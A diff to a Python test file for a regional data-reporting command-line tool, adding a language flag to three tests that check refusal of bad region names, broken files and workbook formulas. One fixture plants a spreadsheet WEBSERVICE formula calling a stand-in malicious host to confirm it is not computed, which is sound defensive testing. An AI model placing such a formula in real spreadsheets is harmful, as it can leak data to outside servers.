@@ -168,7 +168,7 @@ def test_regions_that_are_paths_or_commands_are_refused(region, tmp_path, capsys
     data = tmp_path / "data"
     (data / "banjar").mkdir(parents=True)
     with pytest.raises(SystemExit) if region in {"-x", ""} else contextlib.nullcontext():
-        assert main(["report", region, "--data", str(data), "--out", str(tmp_path / "out")]) == 2
+        assert main(["report", region, "--data", str(data), "--out", str(tmp_path / "out"), "--language", "en"]) == 2
     lines = told(capsys)
     assert 1 <= len(lines) <= 2 and "Traceback" not in " ".join(lines)
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
@@ -223,7 +223,7 @@ def test_broken_files_are_refused_in_a_line(content, tmp_path, capsys):
     folder = tmp_path / "tapin" / "2025-12-23"
     folder.mkdir(parents=True)
     (folder / "profil.csv").write_bytes(content)
-    assert main(["report", "tapin", "--data", str(tmp_path), "--out", str(tmp_path / "out")]) == 2
+    assert main(["report", "tapin", "--data", str(tmp_path), "--out", str(tmp_path / "out"), "--language", "en"]) == 2
     lines = told(capsys)
     assert 1 <= len(lines) <= 2 and "profil.csv" in lines[0] and len(lines[0]) < 1000
 
@@ -235,7 +235,10 @@ def test_a_formula_in_a_workbook_is_not_computed(tmp_path, capsys):
     header = [cell.value for cell in book.active[1]]
     book.active.cell(2, header.index("UNOR INDUK NAMA") + 1).value = '=WEBSERVICE("http://jahat.invalid/z")'
     book.save(path)
-    assert main(["report", "banjar", "--data", str(tmp_path / "data"), "--out", str(tmp_path / "out")]) == 2
+    assert (
+        main(["report", "banjar", "--data", str(tmp_path / "data"), "--out", str(tmp_path / "out"), "--language", "en"])
+        == 2
+    )
     (line,) = told(capsys)
     assert "profil.xlsx" in line and "UNOR INDUK NAMA" in line and "formula" in line
 
